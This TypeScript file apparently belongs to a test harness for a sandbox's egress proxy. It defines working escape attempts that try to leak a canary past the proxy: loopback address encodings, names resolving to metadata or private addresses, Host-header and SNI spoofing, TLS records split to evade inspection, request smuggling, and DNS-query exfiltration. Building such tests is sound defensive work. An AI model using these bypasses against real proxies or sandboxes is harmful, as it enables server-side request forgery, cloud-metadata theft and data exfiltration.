import { type Attack, attack, type Hostile } from "../attack.ts";
import { ADDRESSES } from "../machine.ts";
import type { Scene } from "../scene.ts";

interface Try {
	/** Said to the proxy. AUTH stands for its password's header. */
	readonly first: string;
	/** Said when it has opened a tunnel. Empty: nothing. */
	readonly inside: string;
	/** Where the same is to be had without a proxy, and what is said there. */
	readonly direct: { readonly host: string; readonly port: number };
	readonly words: string;
}

/** By the proxy that there is, else straight to the goal. Words are Latin-1, so that bytes can be written as text. */
const tries = ({ net, proxy, say, settings, Buffer }: Hostile<Try>) =>
	new Promise<void>((resolve) => {
		let answer = "";
		let inside = settings.inside;
		const socket = net.connect(proxy === null ? settings.direct : { host: proxy.host, port: proxy.port }, () => {
			const first = proxy === null ? settings.words : settings.first.replaceAll("AUTH\r\n", proxy.auth);
			socket.write(Buffer.from(first, "latin1"));
		});
		socket.on("data", (part) => {
			answer += String(part);
			setTimeout(end, 250);
			if (proxy !== null && inside !== "" && /^HTTP\/1\.[01] 200/.test(answer)) {
				socket.write(Buffer.from(inside, "latin1"));
				inside = "";
			}
		});
		const end = () => {
			socket.destroy();
			say(answer);
			resolve();
		};
		socket.once("error", end);
		socket.once("close", end);
		setTimeout(end, 2500);
	});

const isolatedOnly = ({ isolated }: Scene) => (isolated ? null : "only root has a network of its own in which these names lead somewhere");

function egress(name: string, title: string, prepare: (scene: Scene) => Try | Promise<Try>, more: Partial<Attack<Try>> = {}): Attack {
	return attack<Try>({
		name: `egress-${name}`,
		family: "egress",
		title,
		entry: "network",
		prepare,
		program: tries,
		escaped: (scene) => scene.listeners.heard(scene.canary),
		...more,
	});
}

const get = (scene: Scene, host: string) => `GET /${scene.canary} HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`;

/** A request in absolute form, as clients send it to a proxy. */
function absolute(scene: Scene, url: string, direct: Try["direct"], hostHeader?: string): Try {
	const host = hostHeader ?? url.replace(/^http:\/\//, "");
	return {
		first: `GET ${url}/${scene.canary} HTTP/1.1\r\nHost: ${host}\r\nAUTH\r\nConnection: close\r\n\r\n`,
		inside: "",
		direct,
		words: get(scene, host),
	};
}

function tunnel(scene: Scene, authority: string, direct: Try["direct"], words = get(scene, authority)): Try {
	return { first: `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\nAUTH\r\n\r\n`, inside: words, direct, words };
}

/** A service of this machine that was not granted. */
async function hidden(scene: Scene): Promise<Try["direct"]> {
	return { host: "127.0.0.1", port: await scene.listeners.tcp("127.0.0.1") };
}

const LITERALS: readonly (readonly [name: string, host: string])[] = [
	["plain", "127.0.0.1"],
	["octal", "0177.0.0.1"],
	["decimal", "2130706433"],
	["hexadecimal", "0x7f000001"],
	["short", "127.1"],
	["any", "0.0.0.0"],
	["mapped", "[::ffff:127.0.0.1]"],
	["mapped-hexadecimal", "[::ffff:7f00:1]"],
	["any-v6", "[::]"],
	["localhost", "localhost"],
	["localhost-dot", "localhost."],
	["full-width", "%EF%BC%91%EF%BC%92%EF%BC%97.0.0.1"],
];

const literals = LITERALS.map(([name, host]) =>
	egress(`literal-${name}`, `reach a service of this machine through the proxy as ${host}`, async (scene) => {
		const direct = await hidden(scene);
		return tunnel(scene, `${host}:${direct.port}`, direct);
	}),
);

/** Names that were granted, and lead where no name may. */
const NAMES: readonly (readonly [name: string, host: string, address: string])[] = [
	["inside", "inside.test", "127.0.0.1"],
	["private", "private.test", ADDRESSES.private],
	["metadata", "metadata.test", ADDRESSES.metadata],
	["rebinding", "rebind.test", "127.0.0.1"],
	["mapped", "mapped.test", "127.0.0.1"],
	["beneath-wildcard-inside", "inside.wild.test", "127.0.0.1"],
	["beneath-wildcard-private", "private.wild.test", ADDRESSES.private],
	["beneath-wildcard-metadata", "metadata.wild.test", ADDRESSES.metadata],
	// Granted with another address, to which they led once.
	["with-address-to-metadata", "pinned.test", ADDRESSES.metadata],
	["with-address-to-inside", "moved.test", "127.0.0.1"],
];

const names = NAMES.flatMap(([name, host, address]) => {
	const more = { impossible: isolatedOnly, escaped: (scene: Scene) => scene.listeners.heard(scene.canary, address) };
	return [
		egress(
			`name-${name}-connect`,
			`reach ${address} by a granted name, ${host}, through a tunnel`,
			(scene) => tunnel(scene, `${host}:80`, { host: address, port: 80 }),
			more,
		),
		egress(
			`name-${name}-http`,
			`reach ${address} by a granted name, ${host}, by HTTP`,
			(scene) => absolute(scene, `http://${host}`, { host: address, port: 80 }),
			more,
		),
	];
});

/** The first message of a TLS connection, with the name that the client wants. */
function clientHello(name: string): string {
	const u16 = (n: number) => String.fromCharCode(n >> 8, n & 255);
	const entry = `\x00${u16(name.length)}${name}`;
	const sni = `\x00\x00${u16(entry.length + 2)}${u16(entry.length)}${entry}`;
	const versions = "\x00\x2b\x00\x03\x02\x03\x04";
	const extensions = `${sni}${versions}`;
	const body = `\x03\x03${"r".repeat(32)}\x00${u16(2)}\x13\x01\x01\x00${u16(extensions.length)}${extensions}`;
	const handshake = `\x01\x00${u16(body.length)}${body}`;
	return `\x16\x03\x01${u16(handshake.length)}${handshake}`;
}

const wild = { host: ADDRESSES.other, port: 80 };

/** Straight to where a wildcard's names lead inside, and there the words; without a sandbox, straight to the goal. */
const byNamedLine = ({ proxy, connect, settings, say }: Hostile<Try>) =>
	connect(proxy === null ? settings.direct : { host: "127.78.0.1", port: settings.direct.port }, settings.words).then(say);

const publicSite = { host: ADDRESSES.granted, port: 443 };

export const EGRESS: readonly Attack[] = [
	...literals,
	...names,
	egress("other-port", "reach another port of a granted address", async (scene) => {
		const direct = await hidden(scene);
		return tunnel(scene, `127.0.0.1:${direct.port}`, direct);
	}),
	egress("other-port-http", "reach another port of a granted address by HTTP", async (scene) => {
		const direct = await hidden(scene);
		return absolute(scene, `http://127.0.0.1:${direct.port}`, direct);
	}),
	egress(
		"other-host",
		"reach another host through the proxy",
		(scene) => tunnel(scene, "other.test:80", { host: ADDRESSES.other, port: 80 }),
		{
			impossible: isolatedOnly,
		},
	),
	egress(
		"subdomain",
		"reach a name below a granted one",
		(scene) => tunnel(scene, "x.granted.test:80", { host: ADDRESSES.other, port: 80 }),
		{
			impossible: isolatedOnly,
		},
	),
	egress(
		"suffix",
		"reach a name that ends like a granted one",
		(scene) => tunnel(scene, "evilgranted.test:80", { host: ADDRESSES.other, port: 80 }),
		{
			impossible: isolatedOnly,
		},
	),
	egress(
		"wildcard-own-domain",
		"reach the domain itself of which the names beneath are granted",
		(scene) => tunnel(scene, "wild.test:80", wild),
		{
			impossible: isolatedOnly,
		},
	),
	egress("wildcard-suffix", "reach a name that ends like a granted wildcard", (scene) => tunnel(scene, "evilwild.test:80", wild), {
		impossible: isolatedOnly,
	}),
	egress(
		"wildcard-prefix",
		"reach a name that begins like a granted wildcard",
		(scene) => tunnel(scene, "a.wild.test.evil.test:80", wild),
		{
			impossible: isolatedOnly,
		},
	),
	egress(
		"wildcard-host-header",
		"reach another site by the Host header in a tunnel to a name beneath a wildcard",
		(scene) => tunnel(scene, "a.wild.test:80", wild, get(scene, "other.test")),
		{ impossible: isolatedOnly },
	),
	egress(
		"wildcard-port",
		"reach another port of a name beneath a wildcard",
		(scene) => tunnel(scene, "a.wild.test:443", { host: ADDRESSES.granted, port: 443 }),
		{ impossible: isolatedOnly },
	),
	egress(
		"wildcard-line-other-host",
		"say another host on the line that waits for the names beneath a wildcard",
		(scene) => tunnel(scene, "other.test:80", wild, get(scene, "other.test")),
		{ impossible: isolatedOnly, program: byNamedLine },
	),
	egress(
		"wildcard-line-second-request",
		"say another host in a second request on the line that waits for the names beneath a wildcard",
		(scene) => {
			const first = "GET / HTTP/1.1\r\nHost: a.wild.test\r\n\r\n";
			return tunnel(scene, "a.wild.test:80", wild, first + get(scene, "other.test"));
		},
		{ impossible: isolatedOnly, program: byNamedLine },
	),
	egress(
		"wildcard-line-sni",
		"say another host by TLS's server name on the line that waits for the names beneath a wildcard",
		(scene) => tunnel(scene, "a.wild.test:80", wild, clientHello(`${scene.canary.toLowerCase()}.other.test`)),
		{ impossible: isolatedOnly, program: byNamedLine, escaped: (scene) => scene.listeners.heard(scene.canary.toLowerCase()) },
	),
	egress(
		"wildcard-names",
		"carry words out in questions to the name server that answers for a wildcard",
		(scene) => ({ first: "", inside: "", direct: wild, words: scene.canary.slice(7) }),
		{
			impossible: isolatedOnly,
			program: async ({ dns, settings: { words } }) => {
				const ends = ["leak.test", "wild.test", "x.wild.test"];
				await Promise.all(
					ends.flatMap((end) => [
						dns.promises.lookup(`${words}.${end}`).catch(() => {}),
						dns.promises.resolveTxt(`${words}.${end}`).catch(() => {}),
					]),
				);
			},
			escaped: (scene) => scene.listeners.heard(scene.canary.slice(7).toLowerCase()),
		},
	),
	egress("without-password", "use the proxy without its password", async (scene) => {
		const [granted = ""] = scene.person.granted;
		const port = Number(granted.split(":")[1]);
		return {
			first: `GET http://${granted}/${scene.canary} HTTP/1.1\r\nHost: ${granted}\r\n\r\n`,
			inside: "",
			direct: { host: "127.0.0.1", port },
			words: get(scene, granted),
		};
	}),
	egress("wrong-password", "use the proxy with another password", async (scene) => {
		const [granted = ""] = scene.person.granted;
		const port = Number(granted.split(":")[1]);
		const auth = `Proxy-Authorization: Basic ${Buffer.from("sallyport:x").toString("base64")}`;
		return {
			first: `GET http://${granted}/${scene.canary} HTTP/1.1\r\nHost: ${granted}\r\n${auth}\r\n\r\n`,
			inside: "",
			direct: { host: "127.0.0.1", port },
			words: get(scene, granted),
		};
	}),
	egress("host-header", "reach another site behind a granted address by the Host header", async (scene) => {
		const [granted = ""] = scene.person.granted;
		const port = Number(granted.split(":")[1]);
		return { ...absolute(scene, `http://${granted}`, { host: "127.0.0.1", port }, "front.test"), words: get(scene, "front.test") };
	}),
	egress("host-header-twice", "say two Host headers", async (scene) => {
		const [granted = ""] = scene.person.granted;
		const port = Number(granted.split(":")[1]);
		const words = `GET /${scene.canary} HTTP/1.1\r\nHost: ${granted}\r\nHost: front.test\r\n\r\n`;
		return {
			first: words.replace("GET /", `GET http://${granted}/`).replace("\r\n\r\n", "\r\nAUTH\r\n\r\n"),
			inside: "",
			direct: { host: "127.0.0.1", port },
			words,
		};
	}),
	egress(
		"sni",
		"reach another site behind a granted address by TLS's server name",
		(scene) => tunnel(scene, "granted.test:443", publicSite, clientHello(`${scene.canary.toLowerCase()}.other.test`)),
		{ impossible: isolatedOnly, escaped: (scene) => scene.listeners.heard(scene.canary.toLowerCase()) },
	),
	egress(
		"sni-in-parts",
		"say TLS's server name in two records, so that a hasty reader does not see it",
		(scene) => {
			const hello = clientHello(`${scene.canary.toLowerCase()}.other.test`);
			const body = hello.slice(5);
			const record = (part: string) => `\x16\x03\x01${String.fromCharCode(part.length >> 8, part.length & 255)}${part}`;
			return tunnel(scene, "granted.test:443", publicSite, record(body.slice(0, 50)) + record(body.slice(50)));
		},
		{ impossible: isolatedOnly, escaped: (scene) => scene.listeners.heard(scene.canary.toLowerCase().slice(20)) },
	),
	egress(
		"tunnel-host-header",
		"reach another site by the Host header inside a tunnel",
		(scene) => tunnel(scene, "granted.test:80", { host: ADDRESSES.granted, port: 80 }, get(scene, "other.test")),
		{
			impossible: isolatedOnly,
		},
	),
	egress(
		"redirect",
		"follow a redirect of a granted site to a service that was not",
		async (scene) => {
			const direct = await hidden(scene);
			const [granted = ""] = scene.person.granted;
			return absolute(scene, `http://${granted}/redirect/${direct.port}`, direct);
		},
		{
			program: async ({ proxy, http, settings, say, connect }) => {
				if (proxy === null) return void (await connect(settings.direct, settings.words));
				const url = new URL(settings.first.split(" ")[1] ?? "");
				const ask = (target: URL) =>
					new Promise<string>((resolve) => {
						const [name = "", value = ""] = proxy.auth.trim().split(": ");
						const request = http.request(
							{ host: proxy.host, port: proxy.port, path: target.href, headers: { host: target.host, [name]: value } },
							(response) => {
								response.resume();
								resolve(response.headers.location ?? "");
							},
						);
						request.once("error", () => resolve(""));
						request.end();
					});
				const to = await ask(url);
				say(to);
				if (to !== "") await ask(new URL(to));
			},
			escaped: (scene) => scene.listeners.heard(`GET /${scene.canary} HTTP/1.1`),
		},
	),
	egress("socks", "use SOCKS5 to reach what was not granted", async (scene) => {
		const direct = await hidden(scene);
		const port = String.fromCharCode(direct.port >> 8, direct.port & 255);
		return { first: `\x05\x01\x00\x05\x01\x00\x01\x7f\x00\x00\x01${port}${get(scene, "x")}`, inside: "", direct, words: get(scene, "x") };
	}),
	egress("smuggled-request", "hide a second request in the body of a first", async (scene) => {
		const direct = await hidden(scene);
		const [granted = ""] = scene.person.granted;
		const second = `GET http://127.0.0.1:${direct.port}/${scene.canary} HTTP/1.1\r\nHost: 127.0.0.1:${direct.port}\r\n\r\n`;
		return {
			first: `POST http://${granted}/ HTTP/1.1\r\nHost: ${granted}\r\nAUTH\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${second}`,
			inside: "",
			direct,
			words: get(scene, "x"),
		};
	}),
	egress("pipelined", "send a second request, to elsewhere, on the connection of a first", async (scene) => {
		const direct = await hidden(scene);
		const [granted = ""] = scene.person.granted;
		const second = `GET http://127.0.0.1:${direct.port}/${scene.canary} HTTP/1.1\r\nHost: 127.0.0.1:${direct.port}\r\nAUTH\r\n\r\n`;
		return {
			first: `GET http://${granted}/ HTTP/1.1\r\nHost: ${granted}\r\nAUTH\r\n\r\n${second}`,
			inside: "",
			direct,
			words: get(scene, "x"),
		};
	}),
	egress("around-proxy", "connect straight, around the proxy", straight, {
		program: async ({ connect, say, settings }) => say(await connect(settings.direct, settings.words)),
	}),
	egress("upgrade", "have the proxy switch to another protocol towards elsewhere", async (scene) => {
		const direct = await hidden(scene);
		return {
			first: `GET http://127.0.0.1:${direct.port}/${scene.canary} HTTP/1.1\r\nHost: 127.0.0.1:${direct.port}\r\nAUTH\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
			inside: "",
			direct,
			words: get(scene, "x"),
		};
	}),
	egress("user-info", "hide the host behind user info", async (scene) => {
		const direct = await hidden(scene);
		const [granted = ""] = scene.person.granted;
		return absolute(scene, `http://${granted}@127.0.0.1:${direct.port}`, direct, granted);
	}),
	egress("header-line-break", "put a line break into the name", async (scene) => {
		const direct = await hidden(scene);
		const [granted = ""] = scene.person.granted;
		return tunnel(scene, `${granted}\nx 127.0.0.1:${direct.port}`, direct);
	}),
	egress(
		"dns-through-proxy",
		"carry words out in a name that the proxy is asked to reach",
		(scene) => tunnel(scene, `${scene.canary.slice(7)}.leak.test:80`, { host: ADDRESSES.other, port: 80 }),
		{ impossible: isolatedOnly },
	),
];

async function straight(scene: Scene): Promise<Try> {
	const direct = await hidden(scene);
	return { first: "", inside: "", direct, words: get(scene, "x") };
}
